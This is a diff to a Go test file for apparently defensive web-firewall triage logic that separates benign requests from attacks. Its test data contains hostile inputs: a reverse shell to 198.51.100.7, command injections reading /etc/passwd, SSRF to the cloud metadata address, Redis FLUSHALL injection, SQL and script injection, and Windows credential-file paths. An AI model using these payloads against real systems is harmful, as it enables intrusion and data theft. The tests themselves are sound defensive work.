@@ -1,6 +1,7 @@
 package triage
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/modsecurity-for-anylog/msa/engine"
@@ -24,6 +25,7 @@ func TestOrdinary(t *testing.T) {
 			"http://127.0.0.1:49152/done":                true,
 			"http://localhost:8400":                      true,
 			"http://[::1]:5000/signin-oidc":              true,
+			"https://localhost:8443/signin-oidc":         true,
 			"http://127.0.0.1:6379/%0d%0aFLUSHALL":       false,
 			"http://127.0.0.1:80@other.example/":         false,
 			"http://169.254.169.254/latest/":             false,
@@ -48,8 +50,12 @@ func TestOrdinary(t *testing.T) {
 			"String.fromCharCode(72,105)(1)":                                           false,
 			"eval(String.fromCharCode(97,108,101,114,116,40,49,41))//data:image/png,x": false,
 		},
-		"ARGS:url":  {"http://127.0.0.1:49152/done": false}, // where the server goes to, and no browser waits
-		"ARGS:path": {"/shop/cart.git/info/refs": false},    // no request of git
+		"ARGS:json.redirect_uris.0":       {"http://localhost:3000/done": true, "http://169.254.169.254/latest/": false},
+		"ARGS:json.allowed_logout_urls.1": {"https://localhost:3000": true},
+		"ARGS:json.note_url":              {"https://localhost/this": true, "https://localhost/this?cmd=id": false},
+		"ARGS:json.webhook.callback_url":  {"http://localhost:3000/done": false},  // which the server asks
+		"ARGS:url":                        {"http://127.0.0.1:49152/done": false}, // where the server goes to, and no browser waits
+		"ARGS:path":                       {"/shop/cart.git/info/refs": false},    // no request of git
 	} {
 		for value, want := range values {
 			if got := isOrdinary(&mapping.Transaction{}, &engine.Match{}, variable, value); got != want {
@@ -141,6 +147,17 @@ func TestOrdinaryPlaces(t *testing.T) {
 		{"lfi", "windows/system32", "ARGS:json.driver", "C:/Windows/System32/config/SAM", false},
 		{"lfi", "windows/system32", "ARGS:json.driver", "C:/Windows/System32/cmd.exe /c dir", false},
 		{"lfi", "windows/system32", "REQUEST_FILENAME", "C:/Windows/System32/lamp.dll", false},
+		{"lfi", `\??\`, "ARGS:Dimensions.member.1.Value", `\??\C:\pagefile.sys`, true},
+		{"lfi", `\..\`, "ARGS:Dimensions.member.1.Value", `\..\C:\pagefile.sys`, true},
+		{"lfi", `\..\`, "ARGS:f", `\..\C:\Windows\win.ini`, false},
+		{"lfi", `\..\`, "ARGS:f", `\..\..\C:\pagefile.sys`, false},
+		{"lfi", `\??\`, "ARGS:f", `\??\C:\Windows\win.ini`, false},
+		{"lfi", `\??\`, "ARGS:f", `\??\C:\a\..\b.sys`, false},
+		{"lfi", ".git/", "REQUEST_FILENAME", "/cgit/lamps.git/refs/tags", true},
+		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/plain/src/a.c", true},
+		{"lfi", ".git/", "REQUEST_FILENAME", "/shop/.git/refs/heads/main", false},
+		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/config", false},
+		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/plain/../config", false},
 		{"lfi", "/sys/", "REQUEST_FILENAME", "/v1/sys/policies/acl/app", true},
 		{"lfi", "/sys/", "REQUEST_FILENAME", "/files/sys/class/dmi/id", false},
 		{"lfi", "/sys/", "REQUEST_FILENAME", "/files/../../sys/power", false},
@@ -243,5 +260,64 @@ func TestWrittenByCalls(t *testing.T) {
 		if got := isOrdinary(tx, &engine.Match{Tags: []string{"attack-" + c.kind}}, c.variable, "x"); got != c.want {
 			t.Errorf("%s of %s, %s: %v", c.kind, c.variable, c.body, got)
 		}
+	}
+}
+
+// Bodies of random bytes are no forms, whatever their first sign, and the heads of their parts are no lines that somebody has put in.
+func TestOrdinaryBodies(t *testing.T) {
+	noise := strings.Repeat("\x01\ufffd\x7f'\x05--\ufffd;\u0101\x02$(\ufffd&", 20)
+	const form, tail = "multipart/form-data; boundary=lamps-17", "\x01\r\n--lamps-17\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--lamps-17--\r\n"
+	for name, c := range map[string]struct {
+		family, found, uri, kind, body, variable, value string
+		want                                            bool
+	}{
+		"noise as JSON":           {"sqli", "", "/a", "", "[" + noise, "ARGS:json.0", noise, true},
+		"noise as XML":            {"rce", "", "/a", "", "<" + noise, "REQUEST_XML:/*", noise, true},
+		"noise as a name":         {"protocol", "", "/a", "", noise, "ARGS_NAMES:" + noise[:40], noise[:40], true},
+		"noise and a query":       {"rce", "", "/a?c=;id", "", noise, "ARGS:c", ";id", false},
+		"noise and a text":        {"rce", "", "/a", "", noise + "&c=;cat /etc/passwd; uname -a; id", "ARGS:c", ";cat /etc/passwd; uname -a; id", false},
+		"text":                    {"sqli", "", "/a", "", "a=1' or '1'='1", "ARGS:a", "1' or '1'='1", false},
+		"few bytes":               {"rce", "", "/a", "", "\x01=;id\x02", "ARGS:\x01", ";id\x02", false},
+		"part of a form":          {"protocol", "\r\nContent-Disposition:", "/a", form, tail, "REQUEST_BODY", tail, true},
+		"line that is of no part": {"protocol", "\r\nSet-Cookie:", "/a", form, tail, "REQUEST_BODY", tail, false},
+		"part of another form":    {"protocol", "\r\nContent-Disposition:", "/a", "multipart/form-data; boundary=beds", tail, "REQUEST_BODY", tail, false},
+		"part in what is no form": {"protocol", "\r\nContent-Disposition:", "/a", "text/plain; boundary=lamps-17", tail, "REQUEST_BODY", tail, false},
+		"part in an argument":     {"protocol", "\r\nContent-Disposition:", "/a", form, tail, "ARGS:a", tail, false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			tx := &mapping.Transaction{Method: "POST", URI: c.uri, RequestHeaders: []mapping.Header{{Name: "Content-Type", Value: c.kind}}}
+			tx.RequestBody.Text = c.body
+			m := &engine.Match{Tags: []string{"attack-" + c.family}, Data: "Matched Data: " + c.found + " found within x: y"}
+			if got := isOrdinary(tx, m, c.variable, c.value) || isNoise(tx, c.variable); got != c.want {
+				t.Errorf("%v", got)
+			}
+		})
+	}
+}
+
+// Scripts that a machine runs when it starts, given by somebody whom the interface has believed.
+func TestStartScripts(t *testing.T) {
+	const script = "#!/bin/bash\necho lamps\n"
+	for name, c := range map[string]struct {
+		method, header  string
+		status          int
+		variable, value string
+		want            bool
+	}{
+		"start":                  {"POST", "Authorization", 200, "ARGS:json.nodes.0.startupScript", script, true},
+		"user data":              {"PUT", "X-Auth-Token", 201, "ARGS:json.user_data", "#cloud-config\nruncmd: [id]\n", true},
+		"nobody":                 {"POST", "Accept", 200, "ARGS:json.nodes.0.startupScript", script, false},
+		"nobody who is believed": {"POST", "Authorization", 401, "ARGS:json.nodes.0.startupScript", script, false},
+		"another field":          {"POST", "Authorization", 200, "ARGS:json.name", script, false},
+		"command":                {"POST", "Authorization", 200, "ARGS:json.script", "a;id", false},
+		"shell to somebody":      {"POST", "Authorization", 200, "ARGS:json.script", script + "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", false},
+		"asked for":              {"GET", "Authorization", 200, "ARGS:json.script", script, false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			tx := &mapping.Transaction{Method: c.method, URI: "/v1/machines", Status: c.status, RequestHeaders: []mapping.Header{{Name: c.header, Value: "x"}}}
+			if got := isStartScript(tx, c.variable, c.value); got != c.want {
+				t.Errorf("%v", got)
+			}
+		})
 	}
 }
